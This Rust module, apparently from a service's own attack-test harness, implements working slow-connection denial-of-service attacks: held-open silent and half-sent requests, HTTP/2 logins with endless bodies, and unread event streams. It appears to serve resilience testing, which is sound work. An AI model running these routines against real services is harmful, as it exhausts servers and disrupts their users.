//! Attacks by connections that are held open.

use std::{collections::VecDeque, time::Duration};

use bytes::Bytes;
use http::{Method, Request, header};
use http_body_util::{BodyExt, Empty, StreamBody, combinators::BoxBody};
use hyper::body::Frame;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    sync::oneshot,
    task::JoinSet,
    time::{MissedTickBehavior, interval, timeout},
};

use crate::neighbours::attacker::Brief;

const CONNECT_LIMIT: Duration = Duration::from_secs(1);
/// Connections that are held open, and new connections per second.
const SILENT: (usize, u32) = (1_000, 200);
const HALF: (usize, u32) = (500, 100);
/// Connections with unfinished logins, and new connections per second.
const LOGINS: (usize, u32) = (10, 2);
/// Logins on each connection.
const LOGIN_STREAMS: usize = 400;
/// The body of a login stays below this number of bytes, and never ends.
const LOGIN_BYTES: usize = 1024 * 1024;
const STREAMS_PER_SECOND: u32 = 20;
const STREAM_PATTERNS: usize = 100;

/// Incomplete heads of requests.
const BEGINNINGS: [&[u8]; 4] = [
    b"P",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    b"POST /api/auth/login HTTP/1.1\r\n",
];

pub async fn silent(brief: &Brief, ready: oneshot::Sender<()>) -> anyhow::Result<()> {
    hold(brief, SILENT, &[b""], ready).await
}

pub async fn half_requests(brief: &Brief, ready: oneshot::Sender<()>) -> anyhow::Result<()> {
    hold(brief, HALF, &BEGINNINGS, ready).await
}

/// Opens `per_second` connections per second. When `count` connections are open, each new
/// connection replaces the oldest one.
async fn hold(
    brief: &Brief,
    (count, per_second): (usize, u32),
    beginnings: &[&[u8]],
    ready: oneshot::Sender<()>,
) -> anyhow::Result<()> {
    let mut open = VecDeque::new();
    let mut ticks = interval(Duration::from_secs(1) / per_second);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let _ = ready.send(());
    for n in 0_usize.. {
        ticks.tick().await;
        if open.len() >= count {
            open.pop_front();
        }
        let connecting = timeout(CONNECT_LIMIT, TcpStream::connect(brief.address));
        if let Ok(Ok(mut stream)) = connecting.await {
            let _ = stream.write_all(beginnings[n % beginnings.len()]).await;
            open.push_back(stream);
        }
    }
    Ok(())
}

pub async fn unfinished_logins(brief: &Brief, ready: oneshot::Sender<()>) -> anyhow::Result<()> {
    let (count, per_second) = LOGINS;
    let mut open: VecDeque<JoinSet<()>> = VecDeque::new();
    let mut ticks = interval(Duration::from_secs(1) / per_second);
    let _ = ready.send(());
    loop {
        ticks.tick().await;
        if open.len() >= count {
            open.pop_front();
        }
        let mut streams = JoinSet::new();
        if begin_logins(brief, &mut streams).await.is_ok() {
            open.push_back(streams);
        }
    }
}

/// Opens one connection and sends many logins whose bodies never end.
async fn begin_logins(brief: &Brief, streams: &mut JoinSet<()>) -> anyhow::Result<()> {
    let stream = timeout(CONNECT_LIMIT, TcpStream::connect(brief.address)).await??;
    let handshake =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream));
    let (sender, connection) = timeout(CONNECT_LIMIT, handshake).await??;
    streams.spawn(async move { drop(connection.await) });
    for _ in 0..LOGIN_STREAMS {
        let mut sender = sender.clone();
        let request = Request::post(format!("{}/api/auth/login", brief.url))
            .header(header::CONTENT_TYPE, "application/json")
            .body(endless_login())?;
        streams.spawn(async move {
            if sender.ready().await.is_ok() {
                let _ = sender.send_request(request).await;
            }
        });
    }
    Ok(())
}

fn endless_login() -> BoxBody<Bytes, std::convert::Infallible> {
    use futures_util::stream::{self, StreamExt};

    let piece = Bytes::from(vec![b' '; 16 * 1024]);
    let pieces = vec![piece; LOGIN_BYTES / (16 * 1024) - 1];
    let frames = stream::iter(pieces.into_iter().map(|piece| Ok(Frame::data(piece))));
    BodyExt::boxed(StreamBody::new(frames.chain(stream::pending())))
}

/// Opens event streams and never reads them.
pub async fn streams(brief: &Brief, ready: oneshot::Sender<()>) -> anyhow::Result<()> {
    let patterns: Vec<_> = (0..STREAM_PATTERNS)
        .map(|n| format!("custom.p{n}.*"))
        .collect();
    let path = format!("/api/events/stream?pattern={}", patterns.join(","));
    let mut open = JoinSet::new();
    let mut ticks = interval(Duration::from_secs(1) / STREAMS_PER_SECOND);
    let _ = ready.send(());
    loop {
        ticks.tick().await;
        let connecting = timeout(CONNECT_LIMIT, TcpStream::connect(brief.address));
        let Ok(Ok(stream)) = connecting.await else {
            continue;
        };
        let request = Request::builder()
            .method(Method::GET)
            .uri(&path)
            .header(header::HOST, brief.address.to_string())
            .header(header::AUTHORIZATION, format!("Bearer {}", brief.token))
            .body(Empty::<Bytes>::new())?;
        open.spawn(async move {
            let handshake = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await;
            let Ok((mut sender, connection)) = handshake else {
                return;
            };
            let reading = async {
                let answer = sender.send_request(request).await;
                // The stream stays open and is never read.
                std::future::pending::<()>().await;
                drop(answer);
            };
            tokio::select! {
                _ = connection => {}
                () = reading => {}
            }
        });
    }
}
